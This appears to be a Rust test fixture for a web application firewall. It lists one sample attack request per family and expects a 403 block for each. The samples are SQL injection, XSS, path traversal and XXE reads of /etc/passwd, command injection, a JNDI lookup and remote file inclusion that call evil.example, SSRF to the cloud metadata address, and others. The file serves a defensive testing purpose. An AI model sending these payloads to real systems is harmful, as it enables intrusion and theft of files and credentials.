//! An attack of each family that the WAF looks for, what it does not let come at all, and where each leads.

use crate::table::Change;

pub const ATTACKS: &[(&str, Change, &str)] = &[
    ("https://site.example/?q=%27%20OR%201%3D1%20--", |_, _| (), "waf.sql_injection: 403 from waf"),
    ("http://site.example/?q=%27%20OR%201%3D1%20--", |_, _| (), "waf.sql_injection: 403 from waf"),
    (
        "https://site.example/?q=<script>alert(1)</script>",
        |_, _| (),
        "waf.cross_site_scripting: 403 from waf",
    ),
    ("https://site.example/?f=../../etc/passwd", |_, _| (), "waf.path_traversal: 403 from waf"),
    ("https://site.example/?f=x;cat+/etc/hosts", |_, _| (), "waf.command_injection: 403 from waf"),
    ("https://site.example/.env", |_, _| (), "waf.scanner: 403 from waf"),
    (
        "https://site.example/",
        |_, a| a.request.body = "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>".into(),
        "waf.xml_external_entity: 403 from waf",
    ),
    (
        "https://site.example/?q=$%7Bjndi:ldap://evil.example/a%7D",
        |_, _| (),
        "waf.jndi_injection: 403 from waf",
    ),
    ("https://site.example/?q=%7B%7B7*7%7D%7D", |_, _| (), "waf.template_injection: 403 from waf"),
    (
        "https://site.example/?u=http://169.254.169.254/latest/",
        |_, _| (),
        "waf.server_side_request_forgery: 403 from waf",
    ),
    (
        "https://site.example/?p=http://evil.example/shell.txt?",
        |_, _| (),
        "waf.remote_file_inclusion: 403 from waf",
    ),
    ("https://site.example/?p=php://input", |_, _| (), "waf.php_injection: 403 from waf"),
    ("https://site.example/?user[$ne]=x", |_, _| (), "waf.nosql_injection: 403 from waf"),
    ("https://site.example/?user=*)(uid=*", |_, _| (), "waf.ldap_injection: 403 from waf"),
    ("https://site.example/?q=x%0D%0ASet-Cookie:a=b", |_, _| (), "waf.header_injection: 403 from waf"),
    // What may not come at all.
    (
        "https://site.example/",
        |s, a| {
            s.waf.allowed_methods = vec!["GET".to_owned(), "POST".to_owned()];
            a.request.method = "DELETE".to_owned();
        },
        "waf.method_not_allowed: 403 from waf",
    ),
    (
        "https://site.example/",
        |s, a| {
            s.waf.allowed_content_types = vec!["application/json".to_owned()];
            a.request.method = "POST".to_owned();
            a.request.set_header("Content-Type", "text/plain; charset=utf-8");
            a.request.body = "hello".to_owned();
        },
        "waf.content_type_not_allowed: 403 from waf",
    ),
];
